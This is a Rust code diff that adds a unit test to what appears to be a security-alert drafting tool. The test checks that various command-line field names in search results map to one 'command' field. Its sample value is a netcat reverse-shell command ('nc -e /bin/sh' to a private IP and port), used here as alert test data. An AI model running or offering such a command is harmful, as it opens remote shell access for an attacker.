@@ -124,6 +124,27 @@ mod tests {
     }
 
     #[test]
+    fn the_common_command_line_fields_all_show_as_command() {
+        for field in ["process", "cmdline", "CommandLine", "process_command_line"] {
+            let d = draft(json!({"sid": "1", "search_name": "x",
+                "result": {"user": "alice", field: "nc -e /bin/sh 10.0.0.9 4444", "process_name": "nc"}}))
+            .unwrap();
+            assert_eq!(
+                d.context["command"], "nc -e /bin/sh 10.0.0.9 4444",
+                "{field}"
+            );
+            assert_eq!(d.context["process_name"], "nc");
+        }
+        let both = draft(json!({"sid": "1", "search_name": "x",
+            "result": {"command": "sudo -i", "CommandLine": "other"}}))
+        .unwrap();
+        assert_eq!(
+            both.context["command"], "sudo -i",
+            "the first spelling wins"
+        );
+    }
+
+    #[test]
     fn missing_parts_are_named() {
         let err = draft(json!({"result": [], "search_name": ""})).unwrap_err();
         let fields: Vec<_> = err.problems.iter().map(|p| p.field.as_str()).collect();
